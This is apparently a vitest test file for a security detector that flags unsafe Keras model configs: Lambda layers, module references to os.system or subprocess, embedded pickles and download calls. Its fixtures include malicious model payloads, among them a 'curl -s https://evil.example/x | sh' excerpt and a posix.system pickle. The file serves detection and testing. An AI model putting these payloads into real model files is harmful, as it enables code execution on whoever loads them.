import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { bufferSource } from '../../../src/core/byte-source.js';
import { DEFAULT_LIMITS } from '../../../src/core/limits.js';
import detector from '../../../src/detectors/model/keras-config.js';
import { readKerasArchive, readKerasH5, readKerasSavedMetadata, type KerasModel } from '../../../src/readers/keras/index.js';
import { readKerasMetadata, readTensorflowGraph } from '../../../src/readers/protobuf/index.js';
import { openEntry, readZip } from '../../../src/readers/zip/index.js';
import {
  buildKerasH5,
  buildKerasZip,
  denseLayer,
  layer,
  MARSHAL_LAMBDA,
  sequentialConfig,
  tfKerasLambdaConfig,
  tfKerasLayerMetadata,
  tfKerasModelMetadata,
} from '../../builders/keras.js';
import { buildKerasMetadata, buildSavedModel, type KerasMetadataNodeSpec } from '../../builders/protobuf.js';
import { brief, runDetector } from '../detector-tester.js';

const FIXTURES = new URL('../../fixtures/keras/', import.meta.url);

function readKeras(bytes: Buffer): KerasModel {
  const source = bufferSource(bytes);
  const zip = readZip(source, DEFAULT_LIMITS);
  if (!zip.ok) throw new Error(zip.error.message);
  const archive = zip.value;
  const model = readKerasArchive(archive.entries, (e) => openEntry(source, archive, e, DEFAULT_LIMITS), DEFAULT_LIMITS);
  if (!model.ok) throw new Error(model.error.message);
  return model.value;
}
const findings = (model: KerasModel) => runDetector(detector, { model, size: 0 });
const runZip = (config: unknown) => brief(findings(readKeras(buildKerasZip({ config }))));
const runH5 = (bytes: Buffer) => {
  const model = readKerasH5(bufferSource(bytes), DEFAULT_LIMITS);
  if (!model.ok) throw new Error(model.error.message);
  return findings(model.value);
};

const kerasLambda = (code: string) =>
  layer('Lambda', { name: 'lambda', function: { class_name: '__lambda__', config: { code, defaults: null, closure: null } }, arguments: {} });

describe('model/keras-config: benign .keras configs stay quiet', () => {
  const benign: [string, unknown][] = [
    ['a Sequential model of Dense layers', sequentialConfig([denseLayer('dense'), denseLayer('out', 'linear')])],
    ['Conv2D, LayerNormalization and Embedding', sequentialConfig([layer('Embedding', { input_dim: 100, output_dim: 8 }), layer('Conv2D', { filters: 4, kernel_size: [3, 3] }), layer('LayerNormalization', { epsilon: 1e-6 })])],
    ['a Functional model with keras tensors in inbound_nodes', {
      module: 'keras.src.models.functional', class_name: 'Functional', registered_name: 'Functional',
      config: { name: 'f', layers: [{ ...denseLayer(), inbound_nodes: [{ args: [{ class_name: '__keras_tensor__', config: { shape: [null, 8], dtype: 'float32', keras_history: ['input', 0, 0] } }], kwargs: {} }] }], input_layers: [['input', 0, 0]], output_layers: [['dense', 0, 0]] },
    }],
    ['a Keras activation function reference', sequentialConfig([denseLayer('d', { module: 'keras.activations', class_name: 'function', config: 'gelu', registered_name: 'gelu' })])],
    ['a custom object registered under the keras package', sequentialConfig([{ module: 'keras.layers', class_name: 'MyBlock', config: {}, registered_name: 'keras>MyBlock' }])],
    ['keras_nlp and tensorflow modules', sequentialConfig([layer('TransformerEncoder', { num_heads: 2 }, 'keras_nlp.layers'), layer('TFSMLayer', {}, 'tensorflow.keras.layers')])],
    ['NaN in a config (json.loads reads it)', '{"module":"keras","class_name":"Sequential","config":{"layers":[{"module":"keras.layers","class_name":"Dense","config":{"units":1,"bias":NaN}}]}}'],
  ];
  it.each(benign)('%s', (_name, config) => {
    expect(runZip(config)).toEqual([]);
  });
});

describe('model/keras-config: Lambda layers (CVE-2024-3660)', () => {
  it('a marshalled lambda calling os.system is critical, with the names it uses as evidence', () => {
    const result = findings(readKeras(buildKerasZip({ config: sequentialConfig([kerasLambda(MARSHAL_LAMBDA.malicious)]) })));
    expect(brief(result)).toEqual(['lambdaLayer:critical']);
    expect(result[0]?.message).toContain('__import__');
    expect(result[0]?.message).toContain('system');
    expect(result[0]?.evidence.excerpt).toContain('curl -s https://evil.example/x | sh');
    expect(result[0]?.location.jsonPath).toBe('config.json:$.config.layers[1].config.function');
  });
  it('a harmless-looking lambda is still high: it is code', () => {
    expect(runZip(sequentialConfig([kerasLambda(MARSHAL_LAMBDA.benign)]))).toEqual(['lambdaLayer:high']);
  });
  it('tf.keras Lambda stored as a function name in a module (os.system) is a module reference too', () => {
    const config = sequentialConfig([layer('Lambda', { name: 'l', function: 'system', function_type: 'function', module: 'os' })]);
    expect(runZip(config)).toEqual(['lambdaLayer:critical', 'moduleReference:critical']);
  });
  it('a lambda stored as source text is judged by the names in it', () => {
    expect(runZip(sequentialConfig([kerasLambda("lambda x: eval(\"__import__('os')\")")]))).toEqual(['lambdaLayer:critical']);
  });
});

describe('model/keras-config: module references outside Keras (CVE-2025-1550)', () => {
  const cases: [string, unknown, string[]][] = [
    ['{"module": "os", "class_name": "function", "config": "system"} as an activation', sequentialConfig([denseLayer('d', { module: 'os', class_name: 'function', config: 'system', registered_name: null })]), ['moduleReference:critical']],
    ['subprocess.Popen as a layer (the JFrog PoC)', sequentialConfig([{ module: 'subprocess', class_name: 'function', config: 'Popen', inbound_nodes: [{ args: [['touch', '/tmp/x']], kwargs: {} }] }]), ['moduleReference:critical']],
    ['builtins.exec', sequentialConfig([{ module: 'builtins', class_name: 'exec', config: {} }]), ['moduleReference:critical']],
    ['an unknown third-party module', sequentialConfig([{ module: 'evil_pkg.layers', class_name: 'Backdoor', config: {} }]), ['moduleReference:high']],
    ['a dotted fn reference in a loss', { ...sequentialConfig([]), compile_config: { loss: { module: 'keras.losses', class_name: 'LossFunctionWrapper', config: { fn: 'os.system' } } } }, ['moduleReference:critical']],
    ['keras.config.enable_unsafe_deserialization (safe-mode switch)', sequentialConfig([{ module: 'keras.config', class_name: 'function', config: 'enable_unsafe_deserialization' }]), ['unsafeToggle:high']],
    ['keras.utils.get_file (CVE-2025-8747)', sequentialConfig([{ module: 'keras.utils', class_name: 'function', config: 'get_file' }]), ['download:medium']],
    ['an https URL in the config', sequentialConfig([layer('Preset', { url: 'https://evil.example/w.bin' })]), ['download:medium']],
    ['a custom object registered outside Keras', sequentialConfig([{ module: 'keras.layers', class_name: 'Mine', config: {}, registered_name: 'Custom>Mine' }]), ['customObject:medium']],
  ];
  it.each(cases)('%s', (_name, config, expected) => {
    expect(runZip(config)).toEqual(expected);
  });
  it('the finding names the reference and where it is', () => {
    const [finding] = findings(readKeras(buildKerasZip({ config: sequentialConfig([denseLayer('d', { module: 'os', class_name: 'function', config: 'system' })]) })));
    expect(finding?.message).toContain('"os.system"');
    expect(finding?.location.jsonPath).toBe('config.json:$.config.layers[1].config.activation');
    expect(finding?.evidence.rule).toBe('CVE-2025-1550');
  });
});

describe('model/keras-config: TorchModuleWrapper unpickles a torch module', () => {
  it('the base64 pickle is extracted for a rescan and reported high', () => {
    const pickle = Buffer.from('\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.', 'latin1');
    const model = readKeras(buildKerasZip({ config: sequentialConfig([layer('TorchModuleWrapper', { name: 'torch_module_wrapper', module: pickle.toString('base64'), output_shape: null })]) }));
    expect(brief(findings(model))).toEqual(['torchModule:high']);
    const payload = model.documents[1]?.facts?.embedded[0];
    expect(payload).toMatchObject({ kind: 'pickle', encoding: 'base64', jsonPath: '$.config.layers[1].config.module' });
    expect(payload?.bytes.equals(pickle)).toBe(true);
  });
});

describe('model/keras-config: unreadable is never clean', () => {
  it('config.json that does not parse is medium', () => {
    const model = readKeras(buildKerasZip({ config: '{"module": "keras", "class_name": ' }));
    expect(brief(findings(model))).toEqual(['unreadableConfig:medium']);
  });
  it('a zip whose config.json is not Keras-shaped is not read as Keras', () => {
    const source = bufferSource(buildKerasZip({ config: { architectures: ['BertModel'] }, metadata: { format: 'hf' } }));
    const zip = readZip(source, DEFAULT_LIMITS);
    expect(zip.ok && readKerasArchive(zip.value.entries, (e) => openEntry(source, zip.value, e, DEFAULT_LIMITS), DEFAULT_LIMITS)).toMatchObject({ ok: false, error: { kind: 'unsupported' } });
  });
  it('a second config.json member is checked too (zipfile reads the last one)', () => {
    const bytes = buildKerasZip({ config: sequentialConfig([denseLayer()]), extra: [{ name: 'config.json', data: JSON.stringify(sequentialConfig([{ module: 'os', class_name: 'system', config: {} }])) }] });
    expect(brief(findings(readKeras(bytes)))).toEqual(['moduleReference:critical']);
  });
});

describe('model/keras-config: legacy .h5 models', () => {
  const fixture = (name: string) => readFileSync(new URL(name, FIXTURES));
  it.each([
    ['legacy-benign.h5 (h5py, superblock 0)', 'legacy-benign.h5', []],
    ['legacy-benign-continuation.h5 (h5py, 44 root attributes)', 'legacy-benign-continuation.h5', []],
    ['legacy-lambda-latest.h5 (h5py libver=latest: a marshalled lambda calling os.system)', 'legacy-lambda-latest.h5', ['lambdaLayer:critical']],
    ['legacy-module-ref-userblock.h5 (CVE-2025-1550 behind a 512-byte user block)', 'legacy-module-ref-userblock.h5', ['moduleReference:critical']],
    ['legacy-benign-dense-attrs.h5 (dense attribute storage: not readable, not clean)', 'legacy-benign-dense-attrs.h5', null],
  ] as const)('%s', (_name, file, expected) => {
    const model = readKerasH5(bufferSource(fixture(file)), DEFAULT_LIMITS);
    if (expected === null) {
      expect(model).toMatchObject({ ok: false, error: { kind: 'unsupported' } });
      if (!model.ok) expect(model.error.message).toContain('dense storage');
      return;
    }
    if (!model.ok) throw new Error(model.error.message);
    expect(model.value.kerasVersion).toBe('2.11.0');
    expect(brief(findings(model.value))).toEqual(expected);
  });
  it('built .h5 files: fixed and variable-length strings, superblocks 0 and 2', () => {
    for (const superblock of [0, 2] as const) {
      const config = JSON.stringify({ class_name: 'Sequential', config: { layers: [{ class_name: 'Dense', config: { activation: { module: 'posix', class_name: 'function', config: 'system' } } }] } });
      expect(brief(runH5(buildKerasH5({ superblock, attributes: [{ name: 'keras_version', value: '2.15.0', vlen: true }, { name: 'model_config', value: config }] })))).toEqual(['moduleReference:critical']);
      expect(brief(runH5(buildKerasH5({ superblock, attributes: [{ name: 'model_config', value: JSON.stringify({ class_name: 'Sequential', config: { layers: [] } }), vlen: true }] })))).toEqual([]);
    }
  });
  it('training_config is checked as well', () => {
    const training = JSON.stringify({ loss: { class_name: 'function', module: 'subprocess', config: 'check_output' } });
    expect(brief(runH5(buildKerasH5({ attributes: [{ name: 'model_config', value: '{"class_name":"Sequential","config":{}}' }, { name: 'training_config', value: training }] })))).toEqual(['moduleReference:critical']);
  });
});

describe('model/keras-config: Keras metadata inside a TensorFlow SavedModel (keras_metadata.pb)', () => {
  const fromMetadata = (nodes: KerasMetadataNodeSpec[]) => {
    const read = readKerasMetadata(bufferSource(buildKerasMetadata(nodes)));
    if (!read.ok) throw new Error(read.error.message);
    return findings(readKerasSavedMetadata(read.value.nodes, [], DEFAULT_LIMITS));
  };
  const dense = { class_name: 'Dense', config: { name: 'dense', units: 1, activation: 'relu' } };
  const lambdaNode = (code: string): KerasMetadataNodeSpec => ({ nodePath: 'root.layer-1', metadata: tfKerasLayerMetadata('Lambda', tfKerasLambdaConfig(code)) });

  it('a benign tf.keras model (model node, Dense layer) stays quiet', () => {
    const nodes: KerasMetadataNodeSpec[] = [
      { nodePath: 'root', identifier: '_tf_keras_sequential', metadata: tfKerasModelMetadata([dense]) },
      { nodePath: 'root.layer_with_weights-0', metadata: tfKerasLayerMetadata('Dense', dense.config) },
    ];
    expect(brief(fromMetadata(nodes))).toEqual([]);
  });
  it('the marshalled lambda that is critical in a .keras or .h5 file is critical here, named by node path', () => {
    const result = fromMetadata([lambdaNode(MARSHAL_LAMBDA.malicious)]);
    expect(brief(result)).toEqual(['lambdaLayer:critical']);
    expect(result[0]?.location.jsonPath).toBe('root.layer-1:$.config.function');
    expect(result[0]?.evidence.excerpt).toContain('curl -s https://evil.example/x | sh');
  });
  it('the lambda is reported wherever Keras could revive it from: its own node and the model architecture', () => {
    const model = tfKerasModelMetadata([{ class_name: 'Lambda', config: tfKerasLambdaConfig(MARSHAL_LAMBDA.benign) }]);
    const result = fromMetadata([{ nodePath: 'root', identifier: '_tf_keras_sequential', metadata: model }, lambdaNode(MARSHAL_LAMBDA.benign)]);
    expect(result.map((f) => `${f.messageId}:${f.severity}:${f.location.jsonPath}`)).toEqual([
      'lambdaLayer:high:root:$.config.layers[1].config.function',
      'lambdaLayer:high:root:$.model_config.config.layers[1].config.function',
      'lambdaLayer:high:root.layer-1:$.config.function',
    ]);
  });
  it('CVE-2025-1550: a module reference to os.system is critical', () => {
    const layerNode = tfKerasLayerMetadata('Dense', { name: 'd', units: 1, activation: { module: 'os', class_name: 'function', config: 'system', registered_name: null } });
    expect(brief(fromMetadata([{ nodePath: 'root.layer_with_weights-0', metadata: layerNode }]))).toEqual(['moduleReference:critical']);
  });
  it('metadata that is not JSON is unreadable, never clean', () => {
    expect(brief(fromMetadata([{ nodePath: 'root.layer-1', metadata: '{"class_name": "Lambda", "config": ' }]))).toEqual(['unreadableConfig:medium']);
  });
  it('the same JSON in the object graph of an older saved_model.pb is judged the same way', () => {
    const bytes = buildSavedModel({ metaGraphs: [{ nodes: [], objects: [{ identifier: '_tf_keras_layer', metadata: tfKerasLayerMetadata('Lambda', tfKerasLambdaConfig(MARSHAL_LAMBDA.malicious)) }] }] });
    const graph = readTensorflowGraph(bufferSource(bytes), 'saved-model');
    if (!graph.ok) throw new Error(graph.error.message);
    const result = findings(readKerasSavedMetadata(graph.value.kerasMetadata, [], DEFAULT_LIMITS));
    expect(brief(result)).toEqual(['lambdaLayer:critical']);
    expect(result[0]?.location.jsonPath).toBe('object_graph_def.nodes[0]:$.config.function');
  });
});
